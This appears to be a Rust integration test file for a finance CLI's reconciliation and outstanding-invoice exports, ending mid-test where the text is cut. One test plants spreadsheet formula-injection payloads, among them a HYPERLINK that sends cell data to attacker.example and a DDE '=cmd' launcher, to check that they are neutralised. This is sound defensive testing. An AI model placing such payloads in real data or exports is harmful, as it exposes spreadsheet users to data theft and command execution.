//! `export reconciliation` and `export invoices --outstanding` through the binary: the sample
//! ledger, a month end against the sandbox with invoices paid between two pulls, malformed and
//! duplicate ledger lines, the xlsx read back, 10,000 ledger lines summed to the cent, and the
//! stale-mirror warning.

use std::collections::HashMap;
use std::path::Path;
use std::time::Duration;

use ahead_sandbox::NewInvoice;
use ahead_sync::store::RunStats;
use calamine::{Data, Reader, Xlsx};
use chrono::NaiveDate;
use rust_decimal::Decimal;

use crate::util::{cmd, cmd_async, text, Harness};

const LEDGER_MAPPING: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/mappings/ap_ledger.csv.toml");
const SAMPLE_LEDGER: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/ap_ledger.csv");

const HEADER: &str = "Status,Invoice Number,Currency,ERP Currency,AHEAD Balance Due,ERP Open Balance,Difference (AHEAD - ERP),Due Date,Days Past Due,Days Until Due,Aging Bucket,Invoice Date,AHEAD Status,Closed in AHEAD On,PO Number,Vendor,ERP Ledger Line,Note";

/// The sample ledger against a mirror that was never pulled: both lines are missing in AHEAD.
/// Aged as of 2026-11-30: INV-900001 due 10-15 is 46 days late, INV-900002 due 10-31 is 30.
#[test]
fn the_sample_ledger_by_hand() {
    let dir = tempfile::tempdir().unwrap();
    let out = cmd(
        dir.path(),
        &[
            "export",
            "reconciliation",
            "--ledger",
            SAMPLE_LEDGER,
            "--ledger-mapping",
            LEDGER_MAPPING,
            "--as-of",
            "2026-11-30",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let csv = String::from_utf8(out.stdout.clone()).unwrap();
    let want = format!(
        "{HEADER}
missing_in_ahead,INV-900001,USD,USD,,12480.00,,2026-10-15,46,,31-60,2026-09-15,,,,AHEAD,2,
missing_in_ahead,INV-900002,USD,USD,,2310.75,,2026-10-31,30,,1-30,2026-10-01,,,,AHEAD,3,

Totals by status,Currency,Invoices,AHEAD Balance Due,ERP Open Balance,Difference (AHEAD - ERP)
missing_in_ahead,USD,2,,14790.75,

Totals by aging,Currency,Invoices,AHEAD Balance Due,ERP Open Balance,Difference (AHEAD - ERP)
1-30,USD,1,,2310.75,
31-60,USD,1,,12480.00,

Grand total,Currency,Invoices,AHEAD Balance Due,ERP Open Balance,Difference (AHEAD - ERP)
all,USD,2,,14790.75,

Report,
As of,2026-11-30
Mirror pulled at,never
Mirror stale,yes
Ledger file,{SAMPLE_LEDGER}
Ledger lines with a zero open balance (left out),0
"
    );
    assert_eq!(csv, want);
    // Never pulled: the report still goes out, with a warning saying what to do.
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("WARN") && stderr.contains("pull invoices"),
        "{stderr}"
    );
}

/// Rows of a CSV report's detail table, by (status, invoice number).
fn detail(csv: &str) -> HashMap<(String, String), HashMap<String, String>> {
    let detail = csv.split("\n\n").next().unwrap();
    let mut reader = csv::Reader::from_reader(detail.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let mut out = HashMap::new();
    for record in reader.records() {
        let record = record.unwrap();
        let row: HashMap<String, String> = headers
            .iter()
            .zip(record.iter())
            .map(|(h, v)| (h.to_string(), v.to_string()))
            .collect();
        out.insert((row["Status"].clone(), row["Invoice Number"].clone()), row);
    }
    out
}

/// The totals table whose first header cell is `title`: (group, currency) -> cells.
fn totals(csv: &str, title: &str) -> HashMap<(String, String), Vec<String>> {
    let block = csv
        .split("\n\n")
        .find(|b| b.starts_with(title))
        .unwrap_or_else(|| panic!("no {title} in {csv}"));
    let mut reader = csv::ReaderBuilder::new()
        .flexible(true)
        .from_reader(block.as_bytes());
    reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            let cells: Vec<String> = r.iter().map(str::to_string).collect();
            ((cells[0].clone(), cells[1].clone()), cells[2..].to_vec())
        })
        .collect()
}

fn invoice(h: &Harness, item: &str, quantity: i64, due_days: i64) -> (String, NaiveDate) {
    let doc = h
        .sandbox
        .control()
        .create_invoice(&NewInvoice {
            purchase_order_number: None,
            fulfillment_order_number: None,
            lines: vec![(item.to_string(), quantity)],
            due_days: Some(due_days),
        })
        .unwrap();
    let date = |k: &str| NaiveDate::parse_from_str(doc[k].as_str().unwrap(), "%Y-%m-%d").unwrap();
    assert_eq!(
        (date("due_date") - date("invoice_date")).num_days(),
        due_days
    );
    (
        doc["invoice_number"].as_str().unwrap().to_string(),
        date("invoice_date"),
    )
}

/// Month end, by hand (as of the day the invoices were raised):
///
/// | invoice | AHEAD | ERP ledger | expected |
/// |---|---|---|---|
/// | A: 1 x 1249.50, due 10 days ago | open 1249.50 | " a " 1,249.50 (and again on line 6) | matched, 1-30; line 6 duplicate_in_erp |
/// | B: 3 x 79.95 = 239.85, due 45 days ago | 100.00 paid between the pulls: 139.85 | 239.85 | amount_mismatch -100.00, 31-60 |
/// | C: 1 x 289.00, due 100 days ago | open 289.00 | - | missing_in_erp, 90+ |
/// | D: 1 x 8999.00, due in 5 days | paid in full two days later, between the pulls | 8,999.00 | closed_in_ahead on that day, current |
/// | - | - | INV-999999 eur 75.25, due 200 days ago | missing_in_ahead, EUR, 90+ |
/// | - | - | line 7, open balance "12,48.00" | ledger_row_rejected, exit 3 |
#[tokio::test]
async fn month_end_against_the_sandbox() {
    let h = Harness::new().await;
    let config = h.write_config("");
    let config = config.to_str().unwrap();
    let (a, today) = invoice(&h, "SRV-1U-X10", 1, -10);
    let (b, _) = invoice(&h, "RAIL-KIT-1U", 3, -45);
    let (c, _) = invoice(&h, "NIC-25G-2P", 1, -100);
    let (d, _) = invoice(&h, "SRV-2U-G4", 1, 5);
    let out = cmd_async(h.dir.path(), &["--config", config, "pull", "invoices"]).await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));

    // Between two pulls: a partial payment on B, D paid in full two days later.
    let control = h.sandbox.control();
    control.advance_clock(Duration::from_secs(2 * 86_400));
    control.pay_invoice(&b, Decimal::new(10_000, 2)).unwrap();
    control.pay_invoice(&d, Decimal::new(899_900, 2)).unwrap();
    let out = cmd_async(h.dir.path(), &["--config", config, "pull", "invoices"]).await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));

    let old = today - chrono::Duration::days(200);
    let ledger = h.dir.path().join("ap_open.csv");
    std::fs::write(
        &ledger,
        format!(
            "Invoice Number,Vendor,Invoice Date,Due Date,Amount,Amount Paid,Open Balance,Currency\n\
             \" {la} \",AHEAD,{today},{today},\"1,249.50\",0.00,\"1,249.50\",USD\n\
             {b},AHEAD,{today},{today},239.85,0.00,239.85,USD\n\
             {d},AHEAD,{today},{today},\"8,999.00\",0.00,\"8,999.00\",USD\n\
             INV-999999,Other Co,{old},{old},75.25,0.00,75.25,eur\n\
             {a},AHEAD,{today},{today},\"1,249.50\",0.00,\"1,249.50\",USD\n\
             INV-BAD,AHEAD,{today},{today},\"12,48.00\",0.00,\"12,48.00\",USD\n",
            la = a.to_lowercase()
        ),
    )
    .unwrap();
    let as_of = today.to_string();
    let args = |extra: &[&'static str]| -> Vec<String> {
        let mut v: Vec<String> = [
            "--config",
            config,
            "export",
            "reconciliation",
            "--ledger",
            ledger.to_str().unwrap(),
            "--ledger-mapping",
            LEDGER_MAPPING,
            "--as-of",
            &as_of,
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        v.extend(extra.iter().map(|s| s.to_string()));
        v
    };
    let run = |extra: &[&'static str]| {
        let a = args(extra);
        let dir = h.dir.path().to_path_buf();
        async move {
            let refs: Vec<&str> = a.iter().map(String::as_str).collect();
            cmd_async(&dir, &refs).await
        }
    };

    let out = run(&[]).await;
    // A rejected ledger row: the report is written, the row is in it, and the exit code says so.
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("line=7") && stderr.contains("open_balance") && stderr.contains("12,48.00"),
        "{stderr}"
    );
    assert!(stderr.contains("Duplicate ledger line"), "{stderr}");
    assert!(!stderr.contains("stale"), "{stderr}");
    let csv = String::from_utf8(out.stdout.clone()).unwrap();
    assert!(csv.starts_with(HEADER), "{csv}");
    let rows = detail(&csv);
    let row = |status: &str, number: &str| {
        rows.get(&(status.to_string(), number.to_string()))
            .unwrap_or_else(|| panic!("no {status} row for {number} in\n{csv}"))
    };
    let cells = |r: &HashMap<String, String>, names: &[&str]| -> Vec<String> {
        names.iter().map(|n| r[*n].clone()).collect()
    };
    let money = [
        "Currency",
        "AHEAD Balance Due",
        "ERP Open Balance",
        "Difference (AHEAD - ERP)",
        "Days Past Due",
        "Aging Bucket",
    ];
    assert_eq!(
        cells(row("matched", &a), &money),
        ["USD", "1249.50", "1249.50", "0.00", "10", "1-30"]
    );
    assert_eq!(row("matched", &a)["ERP Ledger Line"], "2");
    assert_eq!(
        cells(row("amount_mismatch", &b), &money),
        ["USD", "139.85", "239.85", "-100.00", "45", "31-60"]
    );
    assert_eq!(row("amount_mismatch", &b)["AHEAD Status"], "partially_paid");
    assert_eq!(
        cells(row("missing_in_erp", &c), &money),
        ["USD", "289.00", "", "", "100", "90+"]
    );
    let closed_on = (today + chrono::Duration::days(2)).to_string();
    assert_eq!(
        cells(row("closed_in_ahead", &d), &money),
        ["USD", "0.00", "8999.00", "-8999.00", "0", "current"]
    );
    // Not yet due: never a negative count of days past due; the days left have a column.
    assert_eq!(row("closed_in_ahead", &d)["Days Until Due"], "5");
    assert_eq!(row("matched", &a)["Days Until Due"], "");
    assert_eq!(row("closed_in_ahead", &d)["AHEAD Status"], "paid");
    assert_eq!(row("closed_in_ahead", &d)["Closed in AHEAD On"], closed_on);
    assert_eq!(
        cells(row("missing_in_ahead", "INV-999999"), &money),
        ["EUR", "", "75.25", "", "200", "90+"]
    );
    let dup = row("duplicate_in_erp", &a);
    assert_eq!(dup["ERP Ledger Line"], "6");
    assert!(dup["Note"].contains("ledger line 2"), "{dup:?}");
    let bad = row("ledger_row_rejected", "INV-BAD");
    assert_eq!(bad["ERP Ledger Line"], "7");
    assert!(bad["Note"].contains("open_balance"), "{bad:?}");

    // Totals: never across currencies, duplicates and rejected rows counted in no money.
    let by_status = totals(&csv, "Totals by status");
    let t = |g: &str, c: &str| by_status[&(g.to_string(), c.to_string())].clone();
    assert_eq!(t("matched", "USD"), ["1", "1249.50", "1249.50", "0.00"]);
    assert_eq!(
        t("amount_mismatch", "USD"),
        ["1", "139.85", "239.85", "-100.00"]
    );
    assert_eq!(
        t("closed_in_ahead", "USD"),
        ["1", "0.00", "8999.00", "-8999.00"]
    );
    assert_eq!(t("missing_in_ahead", "EUR"), ["1", "", "75.25", ""]);
    assert_eq!(t("duplicate_in_erp", "USD"), ["1", "", "", ""]);
    assert_eq!(t("ledger_row_rejected", ""), ["1", "", "", ""]);
    let by_aging = totals(&csv, "Totals by aging");
    assert_eq!(
        by_aging[&("90+".to_string(), "EUR".to_string())],
        ["1", "", "75.25", ""]
    );
    assert!(csv.contains("\nMirror stale,no\n"), "{csv}");

    // The same report as JSON lines: a report line first, sections on every line.
    let out = run(&["--format", "json"]).await;
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    let lines: Vec<serde_json::Value> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines[0]["section"], "report");
    assert_eq!(lines[0]["as_of"], as_of.as_str());
    assert!(lines[0]["mirror_pulled_at"].is_string());
    let find = |section: &str, key: &str, value: &str| {
        lines
            .iter()
            .find(|l| l["section"] == section && l[key] == value)
            .unwrap_or_else(|| panic!("no {section} {key}={value}"))
            .clone()
    };
    let mismatch = find("detail", "invoice_number", &b);
    assert_eq!(mismatch["difference"], "-100.00");
    assert_eq!(mismatch["days_past_due"], 45);
    let closed = find("totals_by_status", "status", "closed_in_ahead");
    assert_eq!(closed["erp_balance"], "8999.00");

    // xlsx: opens, two sheets, money as numbers, dates as dates.
    let xlsx = h.dir.path().join("recon.xlsx");
    let out = run(&["--format", "xlsx", "--out", "recon.xlsx"]).await;
    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
    check_workbook(&xlsx, &b);

    // The aging view alone: outstanding invoices only (D is paid), with the same buckets.
    let out = cmd_async(
        h.dir.path(),
        &[
            "--config",
            config,
            "export",
            "invoices",
            "--outstanding",
            "--as-of",
            &as_of,
        ],
    )
    .await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let csv = String::from_utf8(out.stdout).unwrap();
    let table = csv.split("\n\n").next().unwrap();
    let mut reader = csv::Reader::from_reader(table.as_bytes());
    let rows: HashMap<String, Vec<String>> = reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            (
                r[0].to_string(),
                vec![r[5].to_string(), r[7].to_string(), r[11].to_string()],
            )
        })
        .collect();
    assert_eq!(rows[&a], ["10", "1-30", "1249.50"]);
    assert_eq!(rows[&b], ["45", "31-60", "139.85"]);
    assert_eq!(rows[&c], ["100", "90+", "289.00"]);
    assert!(!rows.contains_key(&d), "a paid invoice is not outstanding");
    assert!(
        csv.contains("\nTotals by aging,Currency,Invoices,Balance Due\n"),
        "{csv}"
    );
}

/// A ledger line in EUR for an invoice AHEAD bills in USD (as of the day the invoices were
/// raised):
///
/// | invoice | AHEAD | ERP ledger | expected |
/// |---|---|---|---|
/// | A: 1 x 1249.50, due 10 days ago | open 1249.50 | 1,249.50 USD | matched, 1-30 |
/// | B: 3 x 79.95 = 239.85, due 12 days ago | open 239.85 | 239.85 EUR | currency_mismatch, 1-30: USD and EUR on the row, no difference, in no money total |
/// | C: 1 x 289.00, due 40 days ago | open 289.00 | 300.00 USD | amount_mismatch -11.00, 31-60 |
///
/// Only matched lines carry an ERP balance in USD, so the `1-30` USD bucket's ERP balance is
/// A's alone: B's 239.85 is euros.
#[tokio::test]
async fn a_ledger_line_in_another_currency_is_in_no_total() {
    let h = Harness::new().await;
    let config = h.write_config("");
    let config = config.to_str().unwrap();
    let (a, today) = invoice(&h, "SRV-1U-X10", 1, -10);
    let (b, _) = invoice(&h, "RAIL-KIT-1U", 3, -12);
    let (c, _) = invoice(&h, "NIC-25G-2P", 1, -40);
    let out = cmd_async(h.dir.path(), &["--config", config, "pull", "invoices"]).await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let ledger = h.dir.path().join("ap_open.csv");
    std::fs::write(
        &ledger,
        format!(
            "Invoice Number,Vendor,Invoice Date,Due Date,Amount,Amount Paid,Open Balance,Currency\n\
             {a},AHEAD,{today},{today},\"1,249.50\",0.00,\"1,249.50\",USD\n\
             {b},AHEAD,{today},{today},239.85,0.00,239.85,eur\n\
             {c},AHEAD,{today},{today},300.00,0.00,300.00,USD\n"
        ),
    )
    .unwrap();
    let as_of = today.to_string();
    let run = |extra: &[&str]| {
        let mut args = vec![
            "--config",
            config,
            "export",
            "reconciliation",
            "--ledger",
            ledger.to_str().unwrap(),
            "--ledger-mapping",
            LEDGER_MAPPING,
            "--as-of",
            &as_of,
        ];
        args.extend_from_slice(extra);
        let args: Vec<String> = args.iter().map(|s| s.to_string()).collect();
        let dir = h.dir.path().to_path_buf();
        async move {
            let refs: Vec<&str> = args.iter().map(String::as_str).collect();
            cmd_async(&dir, &refs).await
        }
    };

    let out = run(&[]).await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let csv = String::from_utf8(out.stdout.clone()).unwrap();
    assert!(csv.starts_with(HEADER), "{csv}");
    // Its own status, listed right after amount_mismatch.
    let statuses: Vec<&str> = csv
        .lines()
        .skip(1)
        .take_while(|l| !l.is_empty())
        .map(|l| l.split(',').next().unwrap())
        .collect();
    assert_eq!(
        statuses[..3],
        ["amount_mismatch", "currency_mismatch", "missing_in_erp"],
        "{csv}"
    );
    let rows = detail(&csv);
    let row = |status: &str, number: &str| {
        rows.get(&(status.to_string(), number.to_string()))
            .unwrap_or_else(|| panic!("no {status} row for {number} in\n{csv}"))
    };
    let cells = |r: &HashMap<String, String>| -> Vec<String> {
        [
            "Currency",
            "ERP Currency",
            "AHEAD Balance Due",
            "ERP Open Balance",
            "Difference (AHEAD - ERP)",
            "Days Past Due",
            "Aging Bucket",
        ]
        .iter()
        .map(|n| r[*n].clone())
        .collect()
    };
    let mismatch = row("currency_mismatch", &b);
    assert_eq!(
        cells(mismatch),
        ["USD", "EUR", "239.85", "239.85", "", "12", "1-30"]
    );
    assert!(
        mismatch["Note"].contains("AHEAD USD, ERP EUR"),
        "{mismatch:?}"
    );
    assert_eq!(
        cells(row("matched", &a)),
        ["USD", "USD", "1249.50", "1249.50", "0.00", "10", "1-30"]
    );
    assert_eq!(
        cells(row("amount_mismatch", &c)),
        ["USD", "USD", "289.00", "300.00", "-11.00", "40", "31-60"]
    );

    // Counted under its own status and the pair of currencies, with no money; in no aging total.
    let by_status = totals(&csv, "Totals by status");
    let key = |g: &str, c: &str| (g.to_string(), c.to_string());
    assert_eq!(
        by_status[&key("currency_mismatch", "USD/EUR")],
        ["1", "", "", ""]
    );
    assert_eq!(
        by_status[&key("matched", "USD")],
        ["1", "1249.50", "1249.50", "0.00"]
    );
    assert_eq!(
        by_status[&key("amount_mismatch", "USD")],
        ["1", "289.00", "300.00", "-11.00"]
    );
    for (group, currency) in by_status.keys() {
        assert!(
            group != "currency_mismatch" || currency == "USD/EUR",
            "{group} {currency}: {csv}"
        );
    }
    let by_aging = totals(&csv, "Totals by aging");
    let bucket = &by_aging[&key("1-30", "USD")];
    assert_eq!(bucket[2..], ["1249.50", "0.00"], "{csv}");
    let aged_1_30 = rows
        .values()
        .filter(|r| r["Aging Bucket"] == "1-30" && r["Currency"] == "USD")
        .filter(|r| r["Status"] != "currency_mismatch")
        .count();
    assert_eq!(bucket[0], aged_1_30.to_string(), "{csv}");
    assert!(
        by_aging.keys().all(|(_, currency)| currency == "USD"),
        "{csv}"
    );

    // JSON lines say the same.
    let out = run(&["--format", "json"]).await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let lines: Vec<serde_json::Value> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let detail_b = lines
        .iter()
        .find(|l| l["section"] == "detail" && l["invoice_number"] == b.as_str())
        .unwrap();
    assert_eq!(detail_b["status"], "currency_mismatch");
    assert_eq!(detail_b["currency"], "USD");
    assert_eq!(detail_b["erp_currency"], "EUR");
    assert_eq!(detail_b["ahead_balance"], "239.85");
    assert_eq!(detail_b["erp_balance"], "239.85");
    assert!(detail_b["difference"].is_null(), "{detail_b}");
    let total: Vec<&serde_json::Value> = lines
        .iter()
        .filter(|l| l["section"] == "totals_by_status" && l["status"] == "currency_mismatch")
        .collect();
    assert_eq!(total.len(), 1, "{total:?}");
    assert_eq!(total[0]["currency"], "USD/EUR");
    assert_eq!(total[0]["count"], 1);
    for k in ["ahead_balance", "erp_balance", "difference"] {
        assert!(total[0][k].is_null(), "{}", total[0]);
    }
    let aging: Vec<&serde_json::Value> = lines
        .iter()
        .filter(|l| l["section"] == "totals_by_aging" && l["aging"] == "1-30")
        .collect();
    assert_eq!(aging.len(), 1, "{aging:?}");
    assert_eq!(aging[0]["erp_balance"], "1249.50");

    // And the workbook.
    let out = run(&["--format", "xlsx", "--out", "recon.xlsx"]).await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let mut book: Xlsx<_> = calamine::open_workbook(h.dir.path().join("recon.xlsx")).unwrap();
    let sheet = book.worksheet_range("Reconciliation").unwrap();
    let row = sheet
        .rows()
        .find(|r| r[1] == Data::String(b.clone()))
        .expect("the currency mismatch row");
    assert_eq!(row[0], Data::String("currency_mismatch".into()));
    assert_eq!(row[2], Data::String("USD".into()));
    assert_eq!(row[3], Data::String("EUR".into()));
    assert_eq!(row[6], Data::Empty);
    let sheet = book.worksheet_range("Totals").unwrap();
    let cells: Vec<Vec<String>> = sheet
        .rows()
        .map(|r| r.iter().map(|c| c.to_string()).collect())
        .collect();
    let found: Vec<&Vec<String>> = cells
        .iter()
        .filter(|r| r[0] == "currency_mismatch")
        .collect();
    assert_eq!(found.len(), 1, "{cells:?}");
    assert_eq!(found[0][1..], ["USD/EUR", "1", "", "", ""]);
    let bucket = cells
        .iter()
        .find(|r| r[0] == "1-30" && r[1] == "USD")
        .unwrap();
    assert_eq!(bucket[4..], ["1249.5", "0"]);
}

/// Text a spreadsheet would run as a formula, from both sides: a PO number AHEAD holds, a
/// vendor and an invoice number in the ledger. The CSV reports, which people open in a
/// spreadsheet, neutralise them (a `'` in front); numbers stay as they are, negative ones
/// included (a credit note of -12.50). JSON stays exact; xlsx holds them
/// as text, never as formulas.
#[tokio::test]
async fn formula_text_is_neutralised_in_the_finance_csv() {
    const PO: &str = "=HYPERLINK(\"https://attacker.example/?d=\"&A1,\"open\")";
    const VENDOR: &str = "=cmd|' /C calc'!A0";
    let h = Harness::new().await;
    let config = h.write_config("");
    let config = config.to_str().unwrap();
    let doc = h
        .sandbox
        .control()
        .create_invoice(&NewInvoice {
            purchase_order_number: Some(PO.into()),
            fulfillment_order_number: None,
            lines: vec![("SRV-1U-X10".into(), 1)],
            due_days: Some(5),
        })
        .unwrap();
    let a = doc["invoice_number"].as_str().unwrap().to_string();
    let today = doc["invoice_date"].as_str().unwrap().to_string();
    let due = doc["due_date"].as_str().unwrap().to_string();
    let out = cmd_async(h.dir.path(), &["--config", config, "pull", "invoices"]).await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let ledger = h.dir.path().join("ap_open.csv");
    std::fs::write(
        &ledger,
        format!(
            "Invoice Number,Vendor,Invoice Date,Due Date,Amount,Amount Paid,Open Balance,Currency\n\
             {a},\"{VENDOR}\",{today},{due},\"1,249.50\",0.00,\"1,249.50\",USD\n\
             +CN-7,@SUM(1+1),{today},{due},-12.50,0.00,-12.50,USD\n"
        ),
    )
    .unwrap();
    let report = |format: &str, out_file: Option<&str>| {
        let mut args = vec![
            "--config".to_string(),
            config.to_string(),
            "export".into(),
            "reconciliation".into(),
            "--ledger".into(),
            ledger.to_str().unwrap().into(),
            "--ledger-mapping".into(),
            LEDGER_MAPPING.into(),
            "--as-of".into(),
            today.clone(),
            "--format".into(),
            format.into(),
        ];
        if let Some(f) = out_file {
            args.extend(["--out".to_string(), f.to_string()]);
        }
        let dir = h.dir.path().to_path_buf();
        async move {
            let refs: Vec<&str> = args.iter().map(String::as_str).collect();
            cmd_async(&dir, &refs).await
        }
    };

    let out = report("csv", None).await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let csv = String::from_utf8(out.stdout).unwrap();
    let rows = detail(&csv);
    let matched = &rows[&("matched".to_string(), a.clone())];
    assert_eq!(matched["PO Number"], format!("'{PO}"));
    assert_eq!(matched["Vendor"], format!("'{VENDOR}"));
    assert_eq!(matched["Days Past Due"], "0");
    assert_eq!(matched["Days Until Due"], "5");
    assert_eq!(matched["AHEAD Balance Due"], "1249.50");
    let credit = rows
        .get(&("missing_in_ahead".to_string(), "'+CN-7".to_string()))
        .unwrap_or_else(|| panic!("no neutralised +CN-7 in\n{csv}"));
    assert_eq!(credit["Vendor"], "'@SUM(1+1)");
    assert_eq!(credit["ERP Open Balance"], "-12.50");
    assert_eq!(credit["Days Past Due"], "0");
    assert_eq!(credit["Days Until Due"], "5");
    let by_status = totals(&csv, "Totals by status");
    assert_eq!(
        by_status[&("missing_in_ahead".to_string(), "USD".to_string())],
        ["1", "", "-12.50", ""]
    );

    // JSON lines are for programs: exact.
    let out = report("json", None).await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let stdout = String::from_utf8(out.stdout).unwrap();
    let line: serde_json::Value = stdout
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .find(|l| l["section"] == "detail" && l["invoice_number"] == a.as_str())
        .unwrap();
    assert_eq!(line["purchase_order_number"], PO);
    assert_eq!(line["vendor"], VENDOR);
    assert!(stdout.contains("\"invoice_number\":\"+CN-7\""), "{stdout}");

    // xlsx: the text as it is, stored as text; no cell holds a formula.
    let out = report("xlsx", Some("recon.xlsx")).await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let mut book: Xlsx<_> = calamine::open_workbook(h.dir.path().join("recon.xlsx")).unwrap();
    let sheet = book.worksheet_range("Reconciliation").unwrap();
    let row = sheet
        .rows()
        .find(|r| r[1] == Data::String(a.clone()))
        .expect("the matched row");
    assert!(row.contains(&Data::String(PO.into())), "{row:?}");
    assert!(row.contains(&Data::String(VENDOR.into())), "{row:?}");
    for name in ["Reconciliation", "Totals"] {
        let formulas = book.worksheet_formula(name).unwrap();
        assert_eq!(formulas.used_cells().count(), 0, "{name}: {formulas:?}");
    }

    // The aging view is for people too.
    let out = cmd_async(
        h.dir.path(),
        &[
            "--config",
            config,
            "export",
            "invoices",
            "--outstanding",
            "--as-of",
            &today,
        ],
    )
    .await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let csv = String::from_utf8(out.stdout).unwrap();
    let table = csv.split("\n\n").next().unwrap();
    let mut reader = csv::Reader::from_reader(table.as_bytes());
    let row = reader
        .records()
        .map(Result::unwrap)
        .find(|r| r[0] == *a)
        .unwrap_or_else(|| panic!("no {a} in\n{csv}"));
    assert_eq!(
        [&row[1], &row[5], &row[6], &row[11]],
        [format!("'{PO}").as_str(), "0", "5", "1249.50"]
    );
}

fn check_workbook(path: &Path, mismatch: &str) {
    let mut book: Xlsx<_> = calamine::open_workbook(path).expect("the xlsx opens");
    assert_eq!(book.sheet_names(), ["Reconciliation", "Totals"]);
    let sheet = book.worksheet_range("Reconciliation").unwrap();
    let header: Vec<String> = sheet
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    assert_eq!(header.join(","), HEADER);
    let row = sheet
        .rows()
        .find(|r| r[1] == Data::String(mismatch.to_string()))
        .expect("the mismatch row");
    assert_eq!(row[0], Data::String("amount_mismatch".into()));
    assert_eq!(row[4], Data::Float(139.85));
    assert_eq!(row[5], Data::Float(239.85));
    assert_eq!(row[6], Data::Float(-100.0));
    assert!(matches!(row[7], Data::DateTime(_)), "{:?}", row[7]);
    assert_eq!(row[8], Data::Float(45.0));
    assert_eq!(row[9], Data::Empty, "days until due: none, it is late");
    // No negative days past due anywhere; an invoice not yet due has its days until due.
    for r in sheet.rows().skip(1) {
        if let Data::Float(days) = r[8] {
            assert!(days >= 0.0, "{r:?}");
        }
    }
    let totals = book.worksheet_range("Totals").unwrap();
    let cells: Vec<Vec<String>> = totals
        .rows()
        .map(|r| r.iter().map(|c| c.to_string()).collect())
        .collect();
    assert_eq!(cells[0][0], "Report");
    let pulled = totals
        .rows()
        .find(|r| r[0] == Data::String("Mirror pulled at".into()))
        .expect("when the mirror was pulled");
    assert!(
        matches!(pulled[1], Data::DateTime(_)),
        "a date-time: {:?}",
        pulled[1]
    );
    assert!(cells.iter().any(|r| r[0] == "Totals by status"));
    assert!(cells
        .iter()
        .any(|r| r[0] == "closed_in_ahead" && r[1] == "USD" && r[4] == "8999"));
    // The grand total: every counted row, per currency.
    assert!(cells.iter().any(|r| r[0] == "Grand total"), "{cells:?}");
    assert!(
        cells.iter().any(|r| r[0] == "all" && r[1] == "USD"),
        "{cells:?}"
    );

    // What calamine does not read: the sheets' own XML.
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    let mut xml = |name: &str| {
        let mut text = String::new();
        std::io::Read::read_to_string(&mut zip.by_name(name).unwrap(), &mut text).unwrap();
        text
    };
    let detail = xml("xl/worksheets/sheet1.xml");
    let last_col = (b'A' + (HEADER.split(',').count() - 1) as u8) as char;
    assert!(
        detail.contains(&format!("<autoFilter ref=\"A1:{last_col}")),
        "an autofilter over the detail: {detail}"
    );
    for sheet in [detail, xml("xl/worksheets/sheet2.xml")] {
        assert!(sheet.contains("<pageSetUpPr fitToPage=\"1\"/>"), "{sheet}");
        assert!(sheet.contains("orientation=\"landscape\""), "{sheet}");
        assert!(
            sheet.contains("fitToHeight=\"0\""),
            "as wide as the page: {sheet}"
        );
    }
    assert!(
        xml("xl/workbook.xml").contains("_xlnm.Print_Titles"),
        "the header row repeats"
    );
}

/// 10,000 ledger lines of 1,000.00, 1,000.01, ... 1,099.99 (quoted, thousands separators):
/// 10,000 x 1,000.00 + 0.01 x (0 + 1 + ... + 9,999) = 10,000,000.00 + 499,950.00.
#[test]
fn ten_thousand_ledger_lines_total_to_the_cent() {
    let dir = tempfile::tempdir().unwrap();
    let mut ledger = String::from(
        "Invoice Number,Vendor,Invoice Date,Due Date,Amount,Amount Paid,Open Balance,Currency\n",
    );
    for k in 0..10_000u64 {
        let cents = 100_000 + k;
        let amount = format!("\"1,{:03}.{:02}\"", cents / 100 - 1000, cents % 100);
        ledger.push_str(&format!(
            "INV-{k:05},AHEAD,2026-10-01,2026-10-31,{amount},0.00,{amount},USD\n"
        ));
    }
    std::fs::write(dir.path().join("big.csv"), ledger).unwrap();
    let out = cmd(
        dir.path(),
        &[
            "-q",
            "export",
            "reconciliation",
            "--ledger",
            "big.csv",
            "--ledger-mapping",
            LEDGER_MAPPING,
            "--as-of",
            "2026-11-30",
            "--format",
            "json",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let stdout = String::from_utf8(out.stdout).unwrap();
    let total: serde_json::Value = stdout
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .find(|l| l["section"] == "totals_by_status")
        .unwrap();
    assert_eq!(total["status"], "missing_in_ahead");
    assert_eq!(total["count"], 10_000);
    assert_eq!(total["erp_balance"], "10499950.00");
}

/// The last successful invoices pull is older than `reconciliation.stale_after_hours`: a
/// warning and a flag in the report, not a failure.
#[tokio::test]
async fn a_stale_mirror_is_a_warning_not_a_failure() {
    let h = Harness::new().await;
